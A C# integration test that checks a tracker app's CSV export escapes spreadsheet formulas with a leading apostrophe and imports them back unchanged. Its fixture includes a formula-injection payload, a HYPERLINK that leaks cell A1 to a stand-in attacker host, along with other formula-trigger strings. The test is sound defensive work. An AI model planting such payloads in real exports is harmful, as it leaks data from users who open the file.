using System.Text.Json;
using Tracker.IntegrationTests.Infrastructure;

namespace Tracker.IntegrationTests.OpenData;

/// <summary>A host whose one commitment is written like a spreadsheet attack.</summary>
public class FormulaTracker : TrackerApp;

public class neutralising_spreadsheet_formulas(FormulaTracker source, EmptyTracker target) : IClassFixture<FormulaTracker>, IClassFixture<EmptyTracker>
{
    private const string Title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the evidence\")";
    private const string ShortTitle = "@SUM(A1:A9)";
    private const string FullText = "+1+2 opens a calculator on some machines";
    private const string Cluster = "-2+3";

    private async Task Arrange()
    {
        var admin = source.Admin();
        var member = await Infrastructure.Arrange.Member(admin, "Formulaland", "FL");
        var lead = await Infrastructure.Arrange.Institution(admin, member, "Ministry of Formulas");
        var plan = await Infrastructure.Arrange.Plan(admin, member, "Formulaland 2016-2018", "2016-01-01", "2018-06-30", 1);
        var registered = await admin.Post($"/api/plans/{plan}/commitments", new
        {
            code = "FL0001", number = "01", title = Title, shortTitle = ShortTitle, fullText = FullText, leadInstitutionId = lead,
        });
        await registered.ShouldHaveStatus(201);
        var id = (await registered.Read<JsonElement>()).GetProperty("id").GetGuid();
        await (await admin.Post($"/api/commitments/{id}/cluster", new { cluster = Cluster })).ShouldHaveStatus(200);
    }

    [Fact]
    public async Task cells_a_spreadsheet_would_run_are_exported_as_text_and_imported_back_as_written()
    {
        await Arrange();

        var first = await (await source.Anonymous().GetAsync("/api/export/commitments.csv")).Content.ReadAsByteArrayAsync();
        var row = Csv.Rows(System.Text.Encoding.UTF8.GetString(first)).Single();
        var report = await target.Import(first);
        var imported = await target.Anonymous().Get<JsonElement>("/api/commitments/FL0001");
        var second = await (await target.Anonymous().GetAsync("/api/export/commitments.csv")).Content.ReadAsByteArrayAsync();

        row["Commitment Title"].ShouldBe("'" + Title);
        row["Short Title"].ShouldBe("'" + ShortTitle);
        row["Full Text"].ShouldBe("'" + FullText);
        // Every cell that could run starts with the apostrophe; plain numbers (-1: the IRM-based score) stay numbers.
        row.Values.Where(cell => !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out var _))
            .ShouldAllBe(cell => cell.Length == 0 || "=+-@\t\r".IndexOf(cell[0]) < 0);
        report.GetProperty("taken").GetInt32().ShouldBe(1);
        imported.GetProperty("title").GetString().ShouldBe(Title);
        imported.GetProperty("shortTitle").GetString().ShouldBe(ShortTitle);
        imported.GetProperty("fullText").GetString().ShouldBe(FullText);
        imported.GetProperty("cluster").GetString().ShouldBe(Cluster);
        second.ShouldBe(first);
    }
}
